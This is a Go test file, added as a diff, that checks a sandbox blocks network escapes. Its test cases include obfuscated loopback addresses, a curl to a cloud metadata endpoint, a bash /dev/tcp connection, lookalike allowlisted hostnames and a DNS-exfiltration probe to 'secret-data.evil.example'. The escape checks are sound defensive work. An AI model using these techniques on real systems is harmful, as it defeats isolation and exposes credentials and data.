@@ -1,0 +1,197 @@
+package sandbox
+
+import (
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+)
+
+// port is the port of a test server on the host's loopback.
+func port(t *testing.T, s *httptest.Server) string {
+	t.Helper()
+	u, err := url.Parse(s.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return u.Port()
+}
+
+func hostServer(t *testing.T) (s *httptest.Server, hits func() int) {
+	var mu sync.Mutex
+	n := 0
+	s = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		n++
+		mu.Unlock()
+		_, _ = io.Copy(w, r.Body)
+		fmt.Fprint(w, "SERVED")
+	}))
+	t.Cleanup(s.Close)
+	return s, func() int { mu.Lock(); defer mu.Unlock(); return n }
+}
+
+func targets(ds []Denial) []string {
+	var out []string
+	for _, d := range ds {
+		out = append(out, d.Target)
+	}
+	return out
+}
+
+func TestHostsNotAllowed(t *testing.T) {
+	h := newHost(t)
+	h.allow("allowed.example")
+	s, _ := hostServer(t)
+	own := port(t, s)
+	h.refuse([]attack{
+		{"a service on the host's loopback", `curl -sS -m 5 http://127.0.0.1:` + own + `/ | grep SERVED && echo GOT`, true},
+		{"the same by name", `curl -sS -m 5 http://localhost:` + own + `/ | grep SERVED && echo GOT`, true},
+		{"the same in other clothes", `for a in 2130706433 127.1 0x7f.1 017700000001 0.0.0.0 '[::ffff:127.0.0.1]' '[::1]'; do curl -sS -m 5 http://$a:` + own + `/ | grep SERVED && echo GOT; done`, true},
+		{"the host's addresses", `for a in $(hostname -I 2>/dev/null) 169.254.169.254 10.0.2.2 192.168.0.1; do curl -sS -m 3 http://$a:` + own + `/ && echo GOT; done`, false},
+		{"metadata service", `curl -sS -m 5 http://169.254.169.254/latest && echo GOT`, false},
+		{"bash's own TCP", `exec 3<>/dev/tcp/192.0.2.1/80 && echo hi >&3 && head -c 1 <&3 | grep . && echo GOT`, false},
+		{"another interface", `for i in /sys/class/net/*; do [ ${i##*/} = lo ] || ip link show ${i##*/} 2>/dev/null && [ -e /proc/sys/net/ipv4/conf/${i##*/} ] && [ ${i##*/} != lo ] && echo GOT; done`, false},
+		{"names that only look allowed", `for n in evilallowed.example allowed.example.evil.example x.allowed.example 'allowed.example%00.evil.example'; do getent ahosts "$n" && echo GOT; done`, false},
+	})
+}
+
+func TestRefusalsAreReported(t *testing.T) {
+	h := newHost(t)
+	h.allow("allowed.example")
+	start := time.Now()
+	r := h.run("/bin/bash", "-c", `curl -sS https://example.com; curl -sS https://192.0.2.7; curl -sS http://allowed.example:8080/; curl -sSk https://allowed.example/ --connect-to allowed.example:443:192.0.2.8:443; exit 0`)
+	if d := time.Since(start); d > 20*time.Second {
+		t.Errorf("refusals took %v: they must come at once", d)
+	}
+	got := targets(r.denials)
+	for _, want := range []string{"example.com", "192.0.2.7:443", "192.0.2.8:443"} {
+		if !slices.Contains(got, want) {
+			t.Errorf("%s is not among the denials %q\n%s", want, got, r.out)
+		}
+	}
+	if !strings.Contains(r.out, "Could not resolve host: example.com") {
+		t.Errorf("curl says %q", r.out)
+	}
+}
+
+func TestAllowedAddress(t *testing.T) {
+	h := newHost(t)
+	s, _ := hostServer(t)
+	h.allow("127.0.0.1:" + port(t, s))
+	out := h.sh(`env -i /usr/bin/curl -sS -m 10 -d body http://127.0.0.1:` + port(t, s) + `/`)
+	if out != "bodySERVED" {
+		t.Errorf("the allowed server says %q", out)
+	}
+}
+
+func TestAllowedNameWithPortMayBePrivate(t *testing.T) {
+	h := newHost(t)
+	s, _ := hostServer(t)
+	h.allow("localhost:" + port(t, s))
+	if out := h.sh(`curl -sS -m 10 http://localhost:` + port(t, s) + `/`); out != "SERVED" {
+		t.Errorf("the allowed server says %q", out)
+	}
+}
+
+// A program that asks a name server of its own choice gets the same answers.
+func TestEveryNameServerIsOurs(t *testing.T) {
+	h := newHost(t)
+	h.allow("allowed.example")
+	ask := `
+import socket, struct
+def ask(server, name, kind):
+    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
+    s = socket.socket(socket.AF_INET, kind)
+    s.settimeout(5)
+    s.connect((server, 53))
+    if kind == socket.SOCK_STREAM:
+        q = struct.pack(">H", len(q)) + q
+    s.send(q)
+    a = s.recv(512)
+    if kind == socket.SOCK_STREAM:
+        if len(a) == 2: a += s.recv(512)
+        a = a[2:]
+    return a[3] & 15, a[-4:]
+for server in ("127.0.0.1", "192.0.2.53"):
+    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+        print(ask(server, "allowed.example", kind)[0], ask(server, "secret-data.evil.example", kind)[0])
+print(socket.inet_ntoa(ask("127.0.0.1", "ALLOWED.example", socket.SOCK_DGRAM)[1]))
+`
+	out := h.run("python3", "-c", ask)
+	if want := strings.Repeat("0 3\n", 4) + "198.18.0.1\n"; out.out != want {
+		t.Errorf("answers %q, want %q", out.out, want)
+	}
+}
+
+func TestServersInside(t *testing.T) {
+	h := newHost(t)
+	out := h.sh(`
+python3 -m http.server 8123 --bind 127.0.0.1 >/dev/null 2>&1 &
+for i in $(seq 100); do curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8123/ && break; sleep 0.05; done
+python3 -c 'import multiprocessing as m; p = m.Pool(2); print(p.map(abs, [-1, -2]))'
+`)
+	if !strings.Contains(out, "200[1, 2]") {
+		t.Errorf("inside: %q", out)
+	}
+}
+
+func TestSocketFamilies(t *testing.T) {
+	h := newHost(t)
+	try := func(args string) string {
+		return `python3 -c 'import socket; socket.socket(` + args + `); print("GOT")'`
+	}
+	h.refuse([]attack{
+		{"packet", try("socket.AF_PACKET, socket.SOCK_RAW"), false},
+		{"vsock", try("40, 1"), false},
+		{"netlink audit", try("16, 3, 9"), false},
+		{"alg", try("38, 5"), false},
+		{"bluetooth", try("31, 3, 1"), false},
+		{"raw", try("socket.AF_INET, socket.SOCK_RAW, 1"), false},
+		{"MPTCP", try("socket.AF_INET, socket.SOCK_STREAM, 262"), true},
+	})
+	if out := h.sh(try("socket.AF_INET6") + "; " + try("socket.AF_UNIX") + "; " + try("16, 3, 0")); out != "GOT\nGOT\nGOT\n" {
+		t.Errorf("sockets that programs need: %q", out)
+	}
+}
+
+func TestHostSockets(t *testing.T) {
+	h := newHost(t)
+	l, err := net.Listen("unix", "@sesame-test-abstract")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			c.Close()
+		}
+	}()
+	h.refuse([]attack{
+		{"abstract socket", `python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\0sesame-test-abstract"); print("GOT")'`, true},
+	})
+}
+
+func TestManyConnections(t *testing.T) {
+	h := newHost(t)
+	s, hits := hostServer(t)
+	h.allow("127.0.0.1:" + port(t, s))
+	out := h.sh(`
+for i in $(seq 200); do echo "url = http://127.0.0.1:` + port(t, s) + `/"; done > urls
+curl -s -Z --parallel-max 200 -K urls | tr -d '\n' | sed 's/SERVED/x/g' | wc -c`)
+	if strings.TrimSpace(out) != "200" || hits() != 200 {
+		t.Errorf("%s answers, %d hits", out, hits())
+	}
+}
